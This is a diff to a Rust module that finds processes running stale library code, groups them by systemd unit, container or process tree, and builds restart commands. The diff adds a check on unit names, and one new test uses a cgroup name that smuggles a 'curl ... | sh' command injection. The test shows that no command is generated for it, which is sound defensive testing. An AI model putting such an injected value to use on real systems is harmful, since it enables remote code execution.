@@ -17,14 +17,19 @@
 
 use std::collections::{BTreeMap, BTreeSet, HashMap};
 
-use crate::detector::report::{Group, GroupKind, Restart, StaleProcess, Urgency};
+use crate::detector::report::{Group, GroupKind, Marks, Restart, StaleProcess, Urgency, PLAIN};
 
 /// The systemd service a cgroup path names: the innermost `*.service`, and
-/// the user manager (`user@UID.service`) above it, if any.
+/// the user manager (`user@UID.service`) above it, if any. The user manager
+/// itself is no service to restart: its apps and terminals sit in scopes
+/// below it, and restarting it ends the user's session.
 pub fn service_in(cgroup: &str) -> Option<(String, Option<u32>)> {
     let parts: Vec<&str> = cgroup.split('/').collect();
     let at = parts.iter().rposition(|c| c.ends_with(".service"))?;
     let unit = parts[at];
+    if unit.starts_with("user@") {
+        return None;
+    }
     let user = parts[..at].iter().find_map(|c| {
         c.strip_prefix("user@")?
             .strip_suffix(".service")?
@@ -40,14 +45,25 @@ pub fn service_in(cgroup: &str) -> Option<(String, Option<u32>)> {
 /// chain) needs an exec or a full restart.
 pub fn advise(procs: &mut [StaleProcess]) {
     let index: HashMap<i32, usize> = procs.iter().enumerate().map(|(i, p)| (p.pid, i)).collect();
+    // A fork keeps the parent's program and its layout: the same
+    // executable, each shared stale file at the same address. A child that
+    // exec'd (a shell's command, a daemon started by systemd) maps the same
+    // old libc elsewhere, and restarting it alone is enough.
     let inherits = |child: &StaleProcess, parent: &StaleProcess| {
         parent.need == Urgency::Required
             && parent.root == child.root
+            && child.exe.is_some()
+            && child.exe == parent.exe
             && child
                 .files
                 .iter()
                 .filter(|f| f.need == Urgency::Required)
-                .all(|f| parent.files.iter().any(|g| g.mapped == f.mapped))
+                .all(|f| {
+                    parent
+                        .files
+                        .iter()
+                        .any(|g| g.mapped == f.mapped && g.address == f.address)
+                })
     };
     let mut tops = Vec::with_capacity(procs.len());
     for p in procs.iter() {
@@ -68,23 +84,25 @@ pub fn advise(procs: &mut [StaleProcess]) {
     for (p, top) in procs.iter_mut().zip(tops) {
         p.restart = Restart {
             at: top,
-            fork_is_enough: p.need == Urgency::Optional,
-            advice: match p.need {
-                Urgency::Optional => OPTIONAL.into(),
-                Urgency::Required if top == p.pid => ITSELF.into(),
-                Urgency::Required => inherited(top.to_string()),
-            },
+            fork_is_enough: p.need == Urgency::Optional || top == p.pid,
+            advice: String::new(),
         };
+        p.restart.advice = advice(p, &PLAIN);
     }
 }
 
-pub const OPTIONAL: &str = "the files on disk have the same content";
-pub const ITSELF: &str = "exec it again or restart it";
+const OPTIONAL: &str = "the files on disk have the same content";
 
-pub fn inherited(top: String) -> String {
-    format!(
-        "exec or restart {top}, which runs the same old code: a fork from it copies that code, so restarting only this process is not enough"
-    )
+/// What to do for process `p` (after [`advise`]), for people.
+pub fn advice(p: &StaleProcess, marks: &Marks) -> String {
+    match p.need {
+        Urgency::Optional => OPTIONAL.to_string(),
+        Urgency::Required if p.restart.at == p.pid => "exec it again or restart it".to_string(),
+        Urgency::Required => format!(
+            "exec or restart {}, which runs the same old code: a fork from it copies that code, so restarting only this process is not enough",
+            (marks.pid)(p.restart.at)
+        ),
+    }
 }
 
 /// Groups the flagged processes (after [`advise`]) by what a person
@@ -108,11 +126,6 @@ pub fn groups(procs: &[StaleProcess], systemd: bool, own: Option<&str>) -> Vec<G
 }
 
 fn key(p: &StaleProcess, systemd: bool, own: Option<&str>) -> (GroupKind, String) {
-    if p.root.is_some() {
-        let root = p.root.as_ref().map(|r| r.display().to_string());
-        let name = p.cgroup.clone().or(root).unwrap_or_default();
-        return (GroupKind::Container, name);
-    }
     let own_unit = own.and_then(service_in);
     let unit = p
         .cgroup
@@ -120,11 +133,41 @@ fn key(p: &StaleProcess, systemd: bool, own: Option<&str>) -> (GroupKind, String
         .filter(|_| systemd)
         .and_then(service_in)
         .filter(|u| own_unit.as_ref() != Some(u));
-    match unit {
-        Some((unit, None)) => (GroupKind::Service, unit),
-        Some((unit, Some(_))) => (GroupKind::UserService, format!("{}/{unit}", p.user)),
-        None => (GroupKind::ProcessTree, p.restart.at.to_string()),
+    match (unit, &p.root) {
+        (Some((unit, None)), _) => (GroupKind::Service, unit),
+        (Some((unit, Some(uid))), _) => {
+            (GroupKind::UserService, format!("{}/{unit}", user_name(uid)))
+        }
+        // A container: its cgroup names it; processes in one cgroup with
+        // different roots are different containers.
+        (None, Some(root)) => (
+            GroupKind::Container,
+            match &p.cgroup {
+                Some(c) => format!("{c} {}", root.display()),
+                None => root.display().to_string(),
+            },
+        ),
+        (None, None) => (GroupKind::ProcessTree, p.restart.at.to_string()),
     }
+}
+
+/// The user a uid names, for `systemctl --user -M USER@`; the number when
+/// it names none.
+fn user_name(uid: u32) -> String {
+    nix::unistd::User::from_uid(nix::unistd::Uid::from_raw(uid))
+        .ok()
+        .flatten()
+        .map_or_else(|| uid.to_string(), |u| u.name)
+}
+
+/// Whether `unit` is a name systemd accepts (letters, digits, `:-_.\@`),
+/// and so safe to print inside a command line.
+fn unit_name_ok(unit: &str) -> bool {
+    !unit.is_empty()
+        && unit.len() <= 255
+        && unit
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || ":-_.\\@".contains(c))
 }
 
 fn group(
@@ -162,9 +205,10 @@ fn group(
         })
         .collect();
     let command = match kind {
-        GroupKind::Service => Some(format!("systemctl restart {name}")),
+        GroupKind::Service if unit_name_ok(&name) => Some(format!("systemctl restart {name}")),
         GroupKind::UserService => name
             .split_once('/')
+            .filter(|(user, unit)| unit_name_ok(user) && unit_name_ok(unit))
             .map(|(user, unit)| format!("systemctl --user -M {user}@ restart {unit}")),
         _ => None,
     };
@@ -182,12 +226,13 @@ fn group(
             .map_or(String::new(), |p| p.command.clone()),
         fixes: fixes.into_iter().collect(),
     };
-    g.action = action(&g, &|p| p.to_string());
+    g.action = action(&g, &PLAIN);
     g
 }
 
-/// What to do for group `g`, for people; `pid` prints a pid.
-pub fn action(g: &Group, pid: &dyn Fn(i32) -> String) -> String {
+/// What to do for group `g`, for people.
+pub fn action(g: &Group, marks: &Marks) -> String {
+    let pid = marks.pid;
     let reload = if g.exec_needed {
         "; a reload that only forks new workers from it (nginx HUP) copies the old code: exec it again (nginx USR2) or restart it fully"
     } else {
@@ -202,8 +247,8 @@ pub fn action(g: &Group, pid: &dyn Fn(i32) -> String) -> String {
             format!("restart user {user}'s service {unit}{reload}")
         }
         GroupKind::Container => format!(
-            "restart the container or chroot (cgroup {}) from where it is run{reload}",
-            g.name
+            "restart the container or chroot ({}) from where it is run{reload}",
+            (marks.vol)(g.name.clone())
         ),
         GroupKind::ProcessTree if forked > 0 => format!(
             "restart process {} ({}) and the {forked} forked from it{reload}",
@@ -233,6 +278,11 @@ mod tests {
             cgroup: Some(cgroup.into()),
             root: None,
             start_ns: 0,
+            exe: Some(FileId {
+                major: 8,
+                minor: 1,
+                inode: 99,
+            }),
             need: Urgency::Required,
             restart: Restart {
                 at: pid,
@@ -255,6 +305,7 @@ mod tests {
                 detail: String::new(),
                 package: None,
                 path_in_maps: None,
+                address: 0x7f00_0000,
             }],
         }
     }
@@ -273,6 +324,12 @@ mod tests {
             service_in("/user.slice/user-1000.slice/session-3.scope"),
             None
         );
+        // An app or terminal under the user's manager: the manager is no
+        // service to restart.
+        assert_eq!(
+            service_in("/user.slice/user-1000.slice/user@1000.service/app.slice/app-firefox.scope"),
+            None
+        );
     }
 
     #[test]
@@ -283,7 +340,7 @@ mod tests {
             flagged(
                 20,
                 1,
-                "/user.slice/user-1000.slice/user@1000.service/app.slice/foo.service",
+                "/user.slice/user-0.slice/user@0.service/app.slice/foo.service",
                 7,
             ),
             flagged(30, 1, "/user.slice/user-1000.slice/session-3.scope", 7),
@@ -303,7 +360,7 @@ mod tests {
         let user = g.iter().find(|g| g.kind == GroupKind::UserService).unwrap();
         assert_eq!(
             user.command.as_deref(),
-            Some("systemctl --user -M alice@ restart foo.service")
+            Some("systemctl --user -M root@ restart foo.service")
         );
         // A session scope is no unit to restart: its process is its tree.
         assert!(g
@@ -316,5 +373,33 @@ mod tests {
         assert!(g
             .iter()
             .any(|g| g.kind == GroupKind::ProcessTree && g.pids == vec![10, 11]));
+    }
+
+    #[test]
+    fn a_child_that_exec_d_another_program_or_lays_the_file_out_elsewhere_is_no_fork() {
+        let master = flagged(10, 1, "/", 7);
+        let mut exec_d = flagged(11, 10, "/", 7);
+        exec_d.exe = Some(FileId {
+            major: 8,
+            minor: 1,
+            inode: 100,
+        });
+        let mut relaid = flagged(12, 10, "/", 7);
+        relaid.files[0].address = 0x7f10_0000;
+        let forked = flagged(13, 10, "/", 7);
+        let mut procs = vec![master, exec_d, relaid, forked];
+        advise(&mut procs);
+        let at: Vec<(i32, i32)> = procs.iter().map(|p| (p.pid, p.restart.at)).collect();
+        assert_eq!(at, vec![(10, 10), (11, 11), (12, 12), (13, 10)]);
+        assert!(procs[1].restart.fork_is_enough && !procs[3].restart.fork_is_enough);
+    }
+
+    #[test]
+    fn a_unit_name_systemd_would_refuse_gets_no_command() {
+        let mut procs = vec![flagged(10, 1, "/system.slice/x;curl${IFS}e|sh;.service", 7)];
+        advise(&mut procs);
+        let g = groups(&procs, true, None);
+        assert_eq!(g[0].kind, GroupKind::Service);
+        assert_eq!(g[0].command, None);
     }
 }
